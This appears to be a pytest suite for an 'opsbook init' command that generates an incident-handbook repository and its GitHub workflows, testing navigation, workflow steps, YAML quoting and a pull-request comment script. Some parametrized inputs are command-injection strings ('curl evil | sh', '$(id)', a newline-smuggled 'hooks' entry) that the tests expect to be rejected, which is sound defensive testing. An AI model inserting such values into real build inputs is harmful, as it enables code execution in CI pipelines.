"""A fresh `opsbook init` is a working repository on day one: its navigation
reaches every generated section, and each GitHub workflow it writes runs.

The workflows' shell steps are run here as GitHub would run them (bash, in the
repository's root, with the step's env), except the `pip install` step, whose
requirement is checked instead (opsbook is already installed in this test's
environment). Jobs guarded by repository variables (the status page's publish
targets) are left out: they need credentials a test does not have.
"""

from __future__ import annotations

import http.server
import json
import os
import re
import subprocess
import threading
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from opsbook.cli import cli

NOW = "2026-11-20T15:00:00Z"


@pytest.fixture(scope="module")
def fresh(tmp_path_factory):
    root = tmp_path_factory.mktemp("init") / "acme"
    result = CliRunner().invoke(cli, ["init", str(root), "--name", "Acme", "--now", NOW,
                                      "--opsbook-source", "git+https://github.com/acme/opsbook@4f2c9e1"])
    assert result.exit_code == 0, result.output
    return root


def _workflows(root: Path) -> dict[str, dict]:
    return {p.stem: yaml.safe_load(p.read_text()) for p in sorted((root / ".github/workflows").glob("*.yml"))}


def test_init_writes_every_workflow_the_readme_describes(fresh):
    names = set(_workflows(fresh))
    mine = {"validate", "site", "status", "handoff", "policy-diff"}
    assert mine <= names and names - mine <= {"incident-intake"}


def test_every_workflow_installs_the_chosen_source_and_nothing_unpublished(fresh):
    for name, flow in _workflows(fresh).items():
        installs = [step["run"] for job in flow["jobs"].values() for step in job["steps"]
                    if "pip install" in step.get("run", "")]
        for command in installs:
            assert command == 'pip install "git+https://github.com/acme/opsbook@4f2c9e1"', (name, command)
        text = (fresh / ".github/workflows" / f"{name}.yml").read_text()
        assert "opsbook==" not in text and "%%" not in text


@pytest.mark.parametrize("source", ['x"; curl evil | sh; "', "opsbook ==1", "$(id)", "a\nb", ""],
                         ids=["quote", "space", "subshell", "newline", "empty"])
def test_a_source_that_could_break_the_workflow_is_a_usage_error(tmp_path, source):
    result = CliRunner().invoke(cli, ["init", str(tmp_path / "x"), "--now", NOW, "--opsbook-source", source])
    assert result.exit_code == 2 and "--opsbook-source" in result.output
    assert not (tmp_path / "x").exists()


def test_navigation_reaches_every_generated_section(fresh):
    config = yaml.load((fresh / "mkdocs.yml").read_text(), Loader=yaml.BaseLoader)  # !ENV tags as text
    targets = {list(item.values())[0] for item in config["nav"]}
    assert {"index.md", "severity.md", "playbooks/index.md", "runbooks/index.md", "oncall/index.md",
            "incidents/index.md", "postmortems/index.md", "actions.md", "status/index.md"} <= targets


class _Slack(http.server.BaseHTTPRequestHandler):
    posts: list = []

    def do_POST(self):  # noqa: N802
        self.posts.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"ok")

    def log_message(self, *args):
        pass


def _steps(flow: dict):
    """(job, step) for every shell step of the jobs a plain push or dispatch runs."""
    for job_name, job in flow["jobs"].items():
        if "if" in job:  # publish targets behind repository variables
            continue
        for step in job["steps"]:
            if "run" in step:
                yield job_name, step


@pytest.mark.parametrize("workflow", ["validate", "site", "status", "handoff"])
def test_each_workflows_shell_steps_pass_on_the_fresh_knowledge_base(fresh, tmp_path, workflow):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), type("H", (_Slack,), {"posts": []}))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    github = {  # what ${{ ... }} expands to on a manual run of the handoff for `primary`
        "secrets.SLACK_HANDOFF_WEBHOOK_URL": f"http://127.0.0.1:{server.server_address[1]}/services/T/B/x",
        "matrix.schedule": "primary", "github.event_name == 'workflow_dispatch'": "true",
    }
    ran = 0
    try:
        for job, step in _steps(_workflows(fresh)[workflow]):
            command = step["run"]
            if command.startswith("pip install"):
                continue
            env = {**os.environ}
            for key, value in (step.get("env") or {}).items():
                expr = re.fullmatch(r"\$\{\{\s*(.+?)\s*\}\}", str(value))
                env[key] = github[expr.group(1)] if expr else str(value)
            done = subprocess.run(["bash", "-eo", "pipefail", "-c", command], cwd=fresh, env=env,
                                  capture_output=True, text=True, timeout=300)
            assert done.returncode == 0, (workflow, job, command, done.stdout[-2000:], done.stderr[-2000:])
            ran += 1
    finally:
        server.shutdown()
        server.server_close()
    assert ran >= 1
    if workflow == "handoff":
        assert len(server.RequestHandlerClass.posts) == 1  # the manual run posted the handoff
    if workflow == "status":
        assert (fresh / "status-site" / "index.html").is_file()
    if workflow in ("validate", "site"):
        assert (fresh / "site" / "index.html").is_file()


@pytest.mark.parametrize("name", ["Acme #1", "Acme: Ops", "[Ops]", "O'Brien & <Sons>", "{x}"],
                         ids=["hash", "colon", "brackets", "quote-amp-angle", "braces"])
def test_a_name_that_is_yaml_syntax_stays_the_name(tmp_path, name):
    """Found in review: the name went into YAML unquoted ('Acme #1' became 'Acme')."""
    root = tmp_path / "kb"
    result = CliRunner().invoke(cli, ["init", str(root), "--name", name, "--now", NOW])
    assert result.exit_code == 0, result.output
    assert yaml.safe_load((root / "opsbook.yaml").read_text())["name"] == name
    assert yaml.load((root / "mkdocs.yml").read_text(), Loader=yaml.BaseLoader)["site_name"] == f"{name} incident handbook"
    assert yaml.safe_load((root / "status/page.yaml").read_text())["name"] == f"{name} Status"
    assert "<Sons>" not in (root / "docs/index.md").read_text()
    assert CliRunner().invoke(cli, ["--root", str(root), "validate", "--now", NOW]).exit_code == 0


@pytest.mark.parametrize("name", ["Acme\n  hooks: [x.py]", "Acme\x1b[31m", "Acme\r"], ids=["newline", "ansi", "cr"])
def test_a_name_with_line_breaks_or_controls_is_a_usage_error(tmp_path, name):
    result = CliRunner().invoke(cli, ["init", str(tmp_path / "kb"), "--name", name, "--now", NOW])
    assert result.exit_code == 2 and "--name" in result.output
    assert not (tmp_path / "kb").exists()


# --- policy-diff: `opsbook diff` on a pull request, one comment kept up to date ----------------

MARKER = "<!-- opsbook-policy-diff -->"


def _pull_request(fresh: Path, tmp_path: Path, change) -> Path:
    """A copy of the fresh knowledge base as a repository whose `origin/main` is the
    base branch and whose checkout is the pull request (``change`` applied, committed)."""
    import shutil

    import git

    root = tmp_path / "pr"
    shutil.copytree(fresh, root, ignore=shutil.ignore_patterns("site", "status-site"))
    repo = git.Repo.init(root, initial_branch="main")
    actor = git.Actor("Test", "test@example.com")
    repo.git.add("-A")
    repo.index.commit("base", author=actor, committer=actor)
    repo.git.update_ref("refs/remotes/origin/main", "HEAD")
    repo.git.checkout("-b", "feature")
    change(root)
    repo.git.add("-A")
    repo.index.commit("the pull request", author=actor, committer=actor)
    return root


def _run_policy_diff(root: Path, tmp_path: Path) -> tuple[str, str]:
    """The workflow's shell steps as GitHub runs them on a pull request into main."""
    flow = yaml.safe_load((root / ".github/workflows/policy-diff.yml").read_text())
    github = {"github.base_ref": "main"}
    temp, summary = tmp_path / "runner-temp", tmp_path / "step-summary.md"
    temp.mkdir()
    summary.write_text("")
    ran = 0
    for job, step in _steps(flow):
        if step["run"].startswith("pip install"):
            continue
        env = {**os.environ, "RUNNER_TEMP": str(temp), "GITHUB_STEP_SUMMARY": str(summary)}
        for key, value in (step.get("env") or {}).items():
            expr = re.fullmatch(r"\$\{\{\s*(.+?)\s*\}\}", str(value))
            env[key] = github[expr.group(1)] if expr else str(value)
        done = subprocess.run(["bash", "-eo", "pipefail", "-c", step["run"]], cwd=root, env=env,
                              capture_output=True, text=True, timeout=300)
        assert done.returncode == 0, (step["run"], done.stdout[-2000:], done.stderr[-2000:])
        ran += 1
    assert ran == 1
    return (temp / "policy-diff.md").read_text(), summary.read_text()


def test_policy_diff_comments_what_a_pull_request_means(fresh, tmp_path):
    def sev2_stops_paging(root):
        path = root / "playbooks/severity.yaml"
        lines = path.read_text().split("\n")
        start = next(i for i, line in enumerate(lines) if "id: SEV2" in line)
        at = next(i for i in range(start, len(lines)) if lines[i].strip() == "page: true")
        lines[at] = lines[at].replace("page: true", "page: false")
        path.write_text("\n".join(lines))

    body, summary = _run_policy_diff(_pull_request(fresh, tmp_path, sev2_stops_paging), tmp_path)
    lines = body.splitlines()
    assert lines[0] == MARKER and lines[1] == "**Policy diff** origin/main -> working tree"
    assert lines[3] == "SEV2 no longer pages"
    assert "### Severity ladder" in lines
    assert summary == body  # forks, whose token cannot comment, still see it on the run


def test_policy_diff_on_a_pull_request_without_policy_change_is_one_line(fresh, tmp_path):
    def docs_only(root):
        (root / "docs/index.md").write_text((root / "docs/index.md").read_text() + "\nMore words.\n")

    body, _ = _run_policy_diff(_pull_request(fresh, tmp_path, docs_only), tmp_path)
    lines = [line for line in body.splitlines() if line.strip()]
    assert lines[0] == MARKER and len(lines) == 3
    assert lines[2].startswith("No policy consequence: 1 file changed")


_NODE_HARNESS = """
const state = JSON.parse(process.env.STATE);
const calls = [];
const listComments = async () => { throw new Error('paginate, not one page'); };
const github = {
  paginate: async (fn, args) => {
    if (fn !== listComments || args.issue_number !== 7 || args.per_page !== 100) throw new Error('bad list');
    return state.comments;
  },
  rest: { issues: {
    listComments,
    createComment: async (args) => { calls.push(['create', args]); },
    updateComment: async (args) => { calls.push(['update', args]); },
  } },
};
const context = { repo: { owner: 'acme', repo: 'ops' }, issue: { number: 7 } };
(async (github, context, require) => {
SCRIPT
})(github, context, require).then(() => console.log(JSON.stringify(calls)),
                                  (e) => { console.error(e); process.exit(1); });
"""


def _comment_step(flow: dict) -> dict:
    (step,) = [s for job in flow["jobs"].values() for s in job["steps"]
               if str(s.get("uses", "")).startswith("actions/github-script@")]
    return step


def _run_comment_script(script: str, tmp_path: Path, body: str, comments: list[dict]) -> list:
    import shutil

    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed")
    temp = tmp_path / "runner-temp"
    temp.mkdir(exist_ok=True)
    (temp / "policy-diff.md").write_text(body)
    harness = tmp_path / "harness.js"
    harness.write_text(_NODE_HARNESS.replace("SCRIPT", script))
    done = subprocess.run([node, str(harness)], env={**os.environ, "RUNNER_TEMP": str(temp),
                                                     "STATE": json.dumps({"comments": comments})},
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


@pytest.mark.parametrize("where", ["example", "init"])
def test_policy_diff_keeps_one_comment_edited_not_reposted(fresh, tmp_path, where):
    """The github-script step, run by node with GitHub's client mocked: the first run
    posts; later runs find the bot's comment by its marker and edit it (or leave it
    when nothing changed); a person's comment quoting the marker is never touched."""
    root = Path(__file__).resolve().parent.parent if where == "example" else fresh
    flow = yaml.safe_load((root / ".github/workflows/policy-diff.yml").read_text())
    step = _comment_step(flow)
    assert step["if"] == "github.event.pull_request.head.repo.full_name == github.repository"
    assert flow["permissions"] == {"contents": "read", "pull-requests": "write"}
    assert "secrets." not in (root / ".github/workflows/policy-diff.yml").read_text()  # the workflow's own token
    script = step["with"]["script"]
    first = f"{MARKER}\n**Policy diff** a -> b\n\nSEV2 no longer pages\n"
    second = f"{MARKER}\n**Policy diff** a -> b\n\nNo policy consequence: 1 file changed.\n"
    person = {"id": 1, "user": {"type": "User"}, "body": f"{MARKER}\nI pasted the bot's comment"}
    other_bot = {"id": 2, "user": {"type": "Bot"}, "body": "coverage: 91%"}
    assert _run_comment_script(script, tmp_path, first, [person, other_bot]) == [
        ["create", {"owner": "acme", "repo": "ops", "issue_number": 7, "body": first}]]
    ours = {"id": 3, "user": {"type": "Bot"}, "body": first}
    assert _run_comment_script(script, tmp_path, first, [person, other_bot, ours]) == []
    assert _run_comment_script(script, tmp_path, second, [person, other_bot, ours]) == [
        ["update", {"owner": "acme", "repo": "ops", "comment_id": 3, "body": second}]]
    huge = MARKER + "\n" + "x" * 70000
    (call,) = _run_comment_script(script, tmp_path, huge, [])
    assert call[0] == "create" and len(call[1]["body"]) < 65536 and "run summary" in call[1]["body"]
